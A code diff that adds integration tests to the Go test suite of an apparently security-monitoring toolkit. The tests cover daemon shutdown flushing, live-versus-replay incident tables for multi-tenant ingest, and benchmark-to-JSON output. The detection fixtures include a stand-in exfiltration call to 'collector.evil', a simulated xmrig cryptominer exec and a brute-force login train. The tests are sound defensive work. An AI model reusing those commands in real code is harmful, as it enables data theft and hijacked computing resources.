@@ -3,14 +3,22 @@
 package repro_test
 
 import (
+	"bytes"
+	"encoding/json"
+	"fmt"
+	"net/http"
 	"os"
 	"os/exec"
 	"path/filepath"
+	"regexp"
 	"strings"
+	"sync"
+	"syscall"
 	"testing"
 	"time"
 
 	"repro/internal/audit"
+	"repro/internal/evstore"
 	"repro/internal/kernel"
 	"repro/internal/trace"
 	"repro/internal/vfs"
@@ -35,6 +43,71 @@ func runTool(t *testing.T, bin string, args ...string) (string, error) {
 	cmd := exec.Command(bin, args...)
 	out, err := cmd.CombinedOutput()
 	return string(out), err
+}
+
+// syncBuf is a goroutine-safe buffer for capturing daemon output
+// while the process is still running.
+type syncBuf struct {
+	mu  sync.Mutex
+	buf bytes.Buffer
+}
+
+func (b *syncBuf) Write(p []byte) (int, error) {
+	b.mu.Lock()
+	defer b.mu.Unlock()
+	return b.buf.Write(p)
+}
+
+func (b *syncBuf) String() string {
+	b.mu.Lock()
+	defer b.mu.Unlock()
+	return b.buf.String()
+}
+
+// startDaemon launches a long-running command, waits until its stdout
+// announces the bound address ("... on http://ADDR ..."), and returns
+// the address plus a stop func that SIGTERMs the process, waits for a
+// clean exit, and returns the full combined output.
+func startDaemon(t *testing.T, bin string, args ...string) (addr string, stop func() string) {
+	t.Helper()
+	cmd := exec.Command(bin, args...)
+	out := &syncBuf{}
+	cmd.Stdout = out
+	cmd.Stderr = out
+	if err := cmd.Start(); err != nil {
+		t.Fatalf("start %s: %v", filepath.Base(bin), err)
+	}
+	addrRE := regexp.MustCompile(`on http://([0-9.]+:[0-9]+)`)
+	deadline := time.Now().Add(10 * time.Second)
+	for {
+		if m := addrRE.FindStringSubmatch(out.String()); m != nil {
+			addr = m[1]
+			break
+		}
+		if time.Now().After(deadline) {
+			_ = cmd.Process.Kill()
+			t.Fatalf("%s never announced an address:\n%s", filepath.Base(bin), out.String())
+		}
+		time.Sleep(10 * time.Millisecond)
+	}
+	stop = func() string {
+		if err := cmd.Process.Signal(syscall.SIGTERM); err != nil {
+			t.Fatalf("SIGTERM: %v", err)
+		}
+		done := make(chan error, 1)
+		go func() { done <- cmd.Wait() }()
+		select {
+		case err := <-done:
+			if err != nil {
+				t.Fatalf("%s exited uncleanly after SIGTERM: %v\n%s", filepath.Base(bin), err, out.String())
+			}
+		case <-time.After(15 * time.Second):
+			_ = cmd.Process.Kill()
+			t.Fatalf("%s did not exit within 15s of SIGTERM:\n%s", filepath.Base(bin), out.String())
+		}
+		return out.String()
+	}
+	return addr, stop
 }
 
 func TestCLITools(t *testing.T) {
@@ -465,6 +538,176 @@ http_post("http://collector.evil/drop", w)`, nil); err != nil {
 		}
 		if !strings.Contains(out, "ransomware") {
 			t.Errorf("scan output: %s", out)
+		}
+	})
+
+	t.Run("jupyterd-sigterm-flushes-store", func(t *testing.T) {
+		// A SIGTERM mid-stream must drain and flush the event store:
+		// with the default FlushEvery batching every event below the
+		// threshold sits in the write buffer, so an unhandled signal
+		// would lose all of them (Recovered non-empty or count short).
+		storeDir := filepath.Join(work, "jupyterd-store")
+		addr, stop := startDaemon(t, filepath.Join(bin, "jupyterd"),
+			"--sloppy", "--addr", "127.0.0.1:0", "--log", storeDir)
+		const requests = 9
+		for i := 0; i < requests; i++ {
+			resp, err := http.Get(fmt.Sprintf("http://%s/api/status?n=%d", addr, i))
+			if err != nil {
+				t.Fatalf("request %d: %v", i, err)
+			}
+			resp.Body.Close()
+		}
+		out := stop()
+		if !strings.Contains(out, "shutting down") {
+			t.Errorf("missing shutdown message:\n%s", out)
+		}
+		store, err := evstore.OpenRead(storeDir)
+		if err != nil {
+			t.Fatalf("open store after SIGTERM: %v", err)
+		}
+		if loss := store.Recovered(); len(loss) != 0 {
+			t.Fatalf("tail loss after clean SIGTERM: %+v", loss)
+		}
+		if got := store.Events(); got < requests {
+			t.Fatalf("store holds %d events, want >= %d (buffered events lost)", got, requests)
+		}
+	})
+
+	t.Run("jingestd-live-vs-replay", func(t *testing.T) {
+		// The ingest acceptance gate, end to end through the real
+		// binaries: a recorded multi-tenant ingest session replayed
+		// with jsentinel --replay must print a byte-identical
+		// top-incidents table to the live run's shutdown report.
+		storeDir := filepath.Join(work, "ingest-store")
+		tenants := "acme=s3cret-a,globex=s3cret-g"
+		mintTok := func(name string) string {
+			out, err := runTool(t, filepath.Join(bin, "jingestd"),
+				"--tenants", tenants, "--mint", name)
+			if err != nil {
+				t.Fatalf("mint %s: %v\n%s", name, err, out)
+			}
+			return strings.TrimSpace(out)
+		}
+		addr, stop := startDaemon(t, filepath.Join(bin, "jingestd"),
+			"--addr", "127.0.0.1:0", "--tenants", tenants, "--store", storeDir, "--top", "5")
+
+		// Each tenant sends a brute-force train (AT-001) and a miner
+		// exec (CM-001) from "the same" source address — namespacing
+		// must keep them distinct actors and incidents.
+		var batch strings.Builder
+		for i := 0; i < 10; i++ {
+			fmt.Fprintf(&batch, `{"kind":"auth","time":"2026-08-08T12:00:%02dZ","src_ip":"203.0.113.5","op":"password","success":false}`+"\n", i)
+		}
+		batch.WriteString(`{"kind":"exec","time":"2026-08-08T12:01:00Z","kernel_id":"k-7","user":"miner","code":"os.system('xmrig -o stratum+tcp://pool')","success":true}` + "\n")
+		for _, tenant := range []string{"acme", "globex"} {
+			req, err := http.NewRequest(http.MethodPost, "http://"+addr+"/ingest",
+				strings.NewReader(batch.String()))
+			if err != nil {
+				t.Fatal(err)
+			}
+			req.Header.Set("X-Tenant", tenant)
+			req.Header.Set("Authorization", "Bearer "+mintTok(tenant))
+			resp, err := http.DefaultClient.Do(req)
+			if err != nil {
+				t.Fatalf("%s: %v", tenant, err)
+			}
+			body := new(bytes.Buffer)
+			_, _ = body.ReadFrom(resp.Body)
+			resp.Body.Close()
+			if resp.StatusCode != http.StatusOK {
+				t.Fatalf("%s: ingest status %d: %s", tenant, resp.StatusCode, body)
+			}
+		}
+		live := stop()
+
+		// incidentTable extracts the "top N incidents by risk" table:
+		// header line through the last aligned row (jsentinel prints
+		// [id] summaries after it; jingestd prints nothing).
+		incidentTable := func(out string) string {
+			lines := strings.Split(out, "\n")
+			start := -1
+			for i, l := range lines {
+				if strings.HasPrefix(l, "top ") && strings.HasSuffix(l, "incidents by risk:") {
+					start = i
+					break
+				}
+			}
+			if start == -1 {
+				t.Fatalf("no incident table in output:\n%s", out)
+			}
+			end := start + 1
+			for end < len(lines) && lines[end] != "" && !strings.HasPrefix(lines[end], "[") {
+				end++
+			}
+			return strings.Join(lines[start:end], "\n")
+		}
+		liveTable := incidentTable(live)
+		for _, want := range []string{"acme/203.0.113.5", "globex/203.0.113.5", "TENANT"} {
+			if !strings.Contains(live, want) {
+				t.Errorf("live shutdown report missing %q:\n%s", want, live)
+			}
+		}
+
+		replay, err := runTool(t, filepath.Join(bin, "jsentinel"),
+			"--replay", storeDir, "--alerts=false", "--workers", "8")
+		if err != nil {
+			t.Fatalf("replay: %v\n%s", err, replay)
+		}
+		if !strings.Contains(replay, "replayed 22 events") {
+			t.Errorf("replay should see all 22 recorded events:\n%s", replay)
+		}
+		if got := incidentTable(replay); got != liveTable {
+			t.Fatalf("replay incident table diverges from live run:\n--- live ---\n%s\n--- replay ---\n%s",
+				liveTable, got)
+		}
+	})
+
+	t.Run("jbenchjson", func(t *testing.T) {
+		// The CI artifact pipeline: bench text in, machine-readable
+		// JSON out, custom ReportMetric units preserved.
+		benchText := strings.Join([]string{
+			"goos: linux",
+			"pkg: repro",
+			"BenchmarkIngestSustained/block-engine-8 \t 1\t186131110 ns/op\t 88024 events/sec",
+			"BenchmarkStoreReplay/store-filtered-8 \t 50\t 421337 ns/op",
+			"PASS",
+			"ok  \trepro\t1.9s",
+		}, "\n")
+		outPath := filepath.Join(work, "bench.json")
+		cmd := exec.Command(filepath.Join(bin, "jbenchjson"), "--out", outPath)
+		cmd.Stdin = strings.NewReader(benchText)
+		if out, err := cmd.CombinedOutput(); err != nil {
+			t.Fatalf("%v\n%s", err, out)
+		}
+		data, err := os.ReadFile(outPath)
+		if err != nil {
+			t.Fatal(err)
+		}
+		var doc struct {
+			Meta       map[string]string `json:"meta"`
+			Benchmarks []struct {
+				Name    string             `json:"name"`
+				NsPerOp float64            `json:"ns_per_op"`
+				Metrics map[string]float64 `json:"metrics"`
+			} `json:"benchmarks"`
+		}
+		if err := json.Unmarshal(data, &doc); err != nil {
+			t.Fatalf("artifact is not valid JSON: %v\n%s", err, data)
+		}
+		if len(doc.Benchmarks) != 2 || doc.Meta["goos"] != "linux" {
+			t.Fatalf("parsed doc = %+v", doc)
+		}
+		b0 := doc.Benchmarks[0]
+		if b0.Name != "BenchmarkIngestSustained/block-engine" ||
+			b0.NsPerOp != 186131110 || b0.Metrics["events/sec"] != 88024 {
+			t.Errorf("first benchmark mis-parsed: %+v", b0)
+		}
+
+		// Empty input is a loud failure, not an empty artifact.
+		cmd = exec.Command(filepath.Join(bin, "jbenchjson"))
+		cmd.Stdin = strings.NewReader("PASS\n")
+		if out, err := cmd.CombinedOutput(); err == nil {
+			t.Fatalf("no-benchmark input accepted:\n%s", out)
 		}
 	})
 
